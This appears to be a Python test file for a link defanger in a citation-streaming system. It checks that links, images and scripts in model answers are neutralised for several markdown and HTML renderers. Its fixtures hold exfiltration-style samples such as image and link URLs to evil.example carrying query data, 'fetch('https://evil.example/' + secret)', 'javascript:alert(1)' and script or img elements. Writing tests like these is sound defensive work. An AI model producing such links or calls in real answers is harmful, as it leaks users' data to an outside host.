"""The link policy: no renderer finds a defanged link, for any deltas.

The renderers are those that pages use: GitHub's cmark, markdown-it with and without links for bare addresses, and the
HTML parser of a browser.
"""

import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import pairwise
from random import Random

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options as CMark
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from citestream.citation.answers.answer import Answer
from citestream.citation.answers.response import Response
from citestream.citation.evidence import Evidence
from citestream.citation.link_policy import LinkDefanger, LinkDefangers, LinkPolicy
from citestream.citation.options import Options
from citestream.citation.support.decision import Decision, Status, Support

ALLOWED = "https://example.org/a_(b)"

DEFANGED = {
    "a link": ("See [the report](https://evil.example/?q=a).", "See [the report] (https[:]//evil[.]example/?q=a)."),
    "an image": ("![x](https://evil.example/x.png)", "! [x] (https[:]//evil[.]example/x[.]png)"),
    "a link to another page of the same server": ("[log out](/logout)", "[log out] (/logout)"),
    "a definition": ("[a]: https://evil.example 'x'", "[a] : https[:]//evil[.]example 'x'"),
    "a link that looks like a citation": ("[1](https://evil.example/)", "1 (https[:]//evil[.]example/)"),
    "a definition that turns our marker into a link": ("[1]: //evil.example", "1 : //evil[.]example"),
    "an address in angle brackets": ("<https://evil.example/>", "< https[:]//evil[.]example/>"),
    "a mail address": ("me@evil.example <me@evil.example>", "me[@]evil.example < me[@]evil.example>"),
    "a bare address": ("HTTPS://evil.example/x", "HTTPS[:]//evil[.]example/x"),
    "a name with www": ("www.evil.example", "www[.]evil[.]example"),
    "a name with a path": ("evil.com/x", "evil[.]com/x"),
    "a subdomain": ("what-you-asked.evil.com", "what-you-asked[.]evil[.]com"),
    "an element": ('<img src="//evil.example/x">', '< img src="//evil[.]example/x">'),
    "a comment": ("<!-- x -->", "< !-- x -->"),
    "an element of script": ("<script>x", "< script>x"),
    "a scheme": ("javascript:alert(1)", "javascript[:]alert(1)"),
    "data": ("data:text/html;base64,x", "data[:]text/html;base64,x"),
    "character references": ("https&colon;&#47;&#x2F;evil.example/x", "https& colon;& #47;& #x2F;evil[.]example/x"),
    "escaped slashes": (r"https:\/\/evil.example/x", r"https[:]\/\/evil[.]example/x"),
    "TeX": (r"$\href{https://evil.example}{x}$", r"$\ href{https[:]//evil[.]example}{x}$"),
    "a line break in the scheme": ("https:\n//evil.example/", "https: \n//evil[.]example/"),
}
UNCHANGED = [
    "Plain text, e.g. U.S.A., 3.5 %, v1.2.3, Dr. No; and/or (see above): done!",
    "README.md, main.rs, example.com and report.pdf are names.",
    "H<sub>2</sub>O<br>and <b>bold</b>, a < b, List<String>, AT&T &amp; &lt;tag&gt;",
    "the data: 5; note: x; 12:30; C: drive; 1:2; Re: you",
    "| a | b |\n|---|---|\n| c [1] | d |\n",
    "天是蓝的。草是绿的！(真的)[1]",
    "@property, #tag, $5, ~x~, `code`, arr[1], [x], [ ] task, [x][y]",
    "",
]


def defanged(text: str, *kept: str) -> str:
    defanger = LinkDefanger(kept)
    return defanger.feed(text) + defanger.flush()


@pytest.mark.parametrize("case", DEFANGED)
def test_links_are_defanged_and_stay_readable(case: str) -> None:
    text, expected = DEFANGED[case]
    assert defanged(text) == expected


@pytest.mark.parametrize("text", UNCHANGED)
def test_text_without_links_is_unchanged(text: str) -> None:
    assert defanged(text) == text


CODE = {
    "names with dots": ("request.user.id = os.path.is(x)", "request.user.id = os.path.is(x)"),
    "an index that is called": ("handlers[0](event)", "handlers[0] (event)"),
    "a typed index": ("d[k]: int = 5", "d[k] : int = 5"),
    "an address that a diagram can load": ('A["<img src=https://e.x/>"]', 'A["< img src=https[:]//e[.]x/>"]'),
}


@pytest.mark.parametrize("case", CODE)
def test_code_keeps_its_dots_and_brackets(case: str) -> None:
    text, expected = CODE[case]
    defanger = LinkDefanger()
    assert defanger.feed(text, code=True) + defanger.flush() == expected


STAYS_A_LINK = {
    "as a link": f"See [the report]({ALLOWED}).",
    "bare": f"See {ALLOWED}, or ({ALLOWED}).",
    "in angle brackets": f"See <{ALLOWED}>.",
    "at the end": f"See {ALLOWED}",
}
NO_LINK = {
    "as an image, which loads automatically": f"![x]({ALLOWED})",
    "with a query after it": f"{ALLOWED}?q=x",
    "with a host name after it": f"{ALLOWED}@evil.example",
    "with data in punctuation": f"{ALLOWED}.!.!.",
    "in an address": f"https://evil.example/?u={ALLOWED}&q=x",
    "with a title": f"[x]({ALLOWED} 'title')",
    "in a definition": f"[1]: {ALLOWED} 'x'",
    "in another spelling": ALLOWED.upper(),
    "in an element": f'<a href="{ALLOWED}">x</a>',
    "as a citation that is not ours": f"[1]({ALLOWED})",
}


@pytest.mark.parametrize("case", STAYS_A_LINK)
def test_an_allowed_url_stays_a_link(case: str) -> None:
    assert defanged(STAYS_A_LINK[case], ALLOWED) == STAYS_A_LINK[case]
    assert defanged(STAYS_A_LINK[case]) != STAYS_A_LINK[case]


@pytest.mark.parametrize("case", NO_LINK)
def test_nothing_can_be_appended_to_an_allowed_url(case: str) -> None:
    assert defanged(NO_LINK[case], ALLOWED) != NO_LINK[case]


def test_the_longer_of_two_allowed_urls_matches() -> None:
    longer = f"{ALLOWED}/more"
    assert defanged(f"{longer} {ALLOWED}", ALLOWED, longer) == f"{longer} {ALLOWED}"


RENDERERS: dict[str, Callable[[str], str]] = {
    "GitHub's cmark": lambda text: str(cmarkgfm.github_flavored_markdown_to_html(text, CMark.CMARK_OPT_UNSAFE)),
    "markdown-it with bare addresses": MarkdownIt("gfm-like", {"linkify": True, "html": True}).render,
    "markdown-it": MarkdownIt("commonmark").render,
    "a browser": lambda text: text,
}
HARMLESS = {"class", "align", "start", "type", "disabled", "checked", "lang"}  # attributes that renderers add
# A registered domain alone: no part of it can carry data
NAME_ALONE = re.compile(r"(?:http:)?//(?:www|[^./?#:@]+\.[^./?#:@]+)")


class Links(HTMLParser):
    """Collects everything in HTML that links or loads."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            of_renderer = name in HARMLESS or (name == "style" and (value or "").startswith("text-align"))
            if not of_renderer and not (name == "href" and NAME_ALONE.fullmatch(value or "")):
                self.found.append(f"{tag} {name}={value}")
        if tag in {"script", "style", "iframe", "base", "object", "embed"}:
            self.found.append(tag)


def links(text: str) -> dict[str, list[str]]:
    """Return the links that each renderer finds."""
    found = {}
    for name, render in RENDERERS.items():
        parser = Links()
        parser.feed(render(text))
        parser.close()
        found[name] = parser.found
    return found


NONE: dict[str, list[str]] = {name: [] for name in RENDERERS}
PIECES = st.sampled_from(
    [
        *("https://", "http:", "//", "evil.example", "/x?q=secret", "www.", "data.", "evil.com", "[", "]", "(", ")"),
        *("<", ">", "!", "a", "img src=", "a href=", '"', "'", "`", "```", "\n", "\n\n", " ", "    ", "\\", "&colon;"),
        *("&#47;", "&sol;", "&period;", "&#58;", "*", "**", "_", "~", "1", "[1]", "[a]:", "[a]", "^", "|", "---", "$"),
        *("$$", "ftp://", "mailto:", "x@", "javascript:", "data:", "svg onload=", "<!--", "-->", "<?", "b>", "br>"),
        *("</a>", "</", "#", "?q=1", ":", ".", "/", "co.uk", "\t", "- ", "> ", "1. ", "<div>", "<script>", "www"),
        *("com", "😀", "例え。", "ｅ", "\u200b", "\u00ad", "xn--", "[[", "]]", "%20", "title", ' "t"', "&", "amp;"),
        *("lt;", "&lt;", "HTTPS://", "href", "{", "}", "\\href{", "link", "é.com/x"),
    ]
)
hostile = st.lists(PIECES, max_size=14).map("".join)
places = st.lists(st.integers(0, 200), max_size=4)


def pieces(text: str, cuts: list[int]) -> list[str]:
    ends = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    return [text[start:end] for start, end in pairwise(ends)]


@given(hostile, places)
@settings(max_examples=400)
def test_no_renderer_finds_a_link_in_any_text(text: str, cuts: list[int]) -> None:
    assert links(defanged(text)) == NONE
    for parts in (list(text), pieces(text, cuts)):
        defanger = LinkDefanger()
        assert links("".join(defanger.feed(part) + defanger.flush() for part in parts)) == NONE, parts
        reasoning = LinkDefangers()
        assert links("".join(reasoning.feed(0, "reasoning", part) for part in parts)) == NONE, parts


@given(hostile, places)
@settings(max_examples=300)
def test_result_does_not_depend_on_deltas_and_keeps_all_characters(text: str, cuts: list[int]) -> None:
    for kept in ((), ("https://evil.example/x?q=secret",)):
        whole = defanged(text, *kept)
        for parts in (list(text), pieces(text, cuts)):
            defanger = LinkDefanger(kept)
            assert "".join(map(defanger.feed, parts)) + defanger.flush() == whole
    shown = iter(defanged(text))
    assert all(character in shown for character in text if character not in "[]"), "characters are only added"


EVIDENCE = (
    Evidence(1, "The bridge was opened in 1932.", "e1", url="https://ex.org/bridge", title="Bridge"),
    Evidence(2, "It is red.", "e2"),
)
SUPPORTED = Decision((Support(1, 0.9, Status.ADDED, 0, 9),))
ANSWER = (
    "The bridge was opened in 1932. See [the report](https://evil.example/?q=what+you+asked), or\n"
    "![x](https://evil.example/x.png) it is red [1]. It is at https://ex.org/bridge. Also www.evil.com/x, 例え.jp/x。"
    "\n\n"
    "[a]: https://evil.example\n\n```js\nfetch('https://evil.example/' + secret)\n```\n\n"
    "- <img src=//evil.example/x> is gone. And `https://evil.example` too, [as said](https://ex.org/bridge).\n"
)


def answered(parts: list[str], policy: LinkPolicy, options: Options) -> tuple[str, Response]:
    response = Response(EVIDENCE, options, links=policy)
    answer = response.answer(0)
    assert isinstance(answer, Answer)
    drafts: Iterator[str] = (answer.cite(draft, SUPPORTED) for part in parts for draft in answer.feed(part))
    return "".join(drafts) + "".join(answer.cite(draft, SUPPORTED) for draft in answer.flush()), response


@pytest.mark.parametrize("policy", ["evidence", "none"])
@pytest.mark.parametrize("marker", ["number", "link", "none"])
def test_answers_do_not_depend_on_deltas_and_spans_index_them(policy: LinkPolicy, marker: str) -> None:
    options = Options(marker=marker)  # type: ignore[arg-type]
    whole, response = answered([ANSWER], policy, options)
    rng = Random(7)
    cut = pieces(ANSWER, [rng.randrange(len(ANSWER)) for _ in range(40)])
    for release in ("sentence", "live"):
        for parts in (cut, list(ANSWER)):
            again, _ = answered(parts, policy, Options(marker=marker, release=release))  # type: ignore[arg-type]
            assert again == whole, (release, len(parts))
    spans = [span for reference in response.references.cited() for span in reference.spans]
    assert len(spans) >= 5
    for span in spans:
        assert whole[span.start : span.end].strip() == whole[span.start : span.end] != ""
        assert marker == "none" or whole[slice(*span.marker)].startswith("[")


@pytest.mark.parametrize(("policy", "left"), [("none", set[str]()), ("evidence", {"a href=https://ex.org/bridge"})])
def test_only_links_that_the_policy_allows_remain(policy: LinkPolicy, left: set[str]) -> None:
    text, _ = answered(list(ANSWER), policy, Options())
    assert {link for found in links(text).values() for link in found} == left


def test_our_markers_and_the_reference_list_stay_links_if_no_links_are_allowed() -> None:
    response = Response(EVIDENCE, Options(marker="link", references_in_text=True), links="none")
    answer = response.answer(0)
    text = "".join(answer.cite(draft, SUPPORTED) for draft in answer.feed("It opened in 1932.\n") + answer.flush())
    assert text == "It opened in 1932. [[1]](https://ex.org/bridge)\n"
    assert answer.reference_list().endswith("- [1] [Bridge](https://ex.org/bridge)\n")


def test_decisions_do_not_depend_on_the_policy() -> None:
    response = Response(EVIDENCE, Options(), links="none")
    (draft,) = response.answer(0).feed("It opened at https://ex.org/x in 1932.\n")
    assert draft.claim
    assert draft.claim.text == "It opened at in 1932."
    assert draft.text == "It opened at https[:]//ex[.]org/x in 1932.\n"


def test_the_policy_allow_changes_nothing() -> None:
    assert Response(EVIDENCE, Options()).link_defanger() is None
    assert answered([ANSWER], "allow", Options(marker="none"))[0] == ANSWER.replace(" [1].", ".")
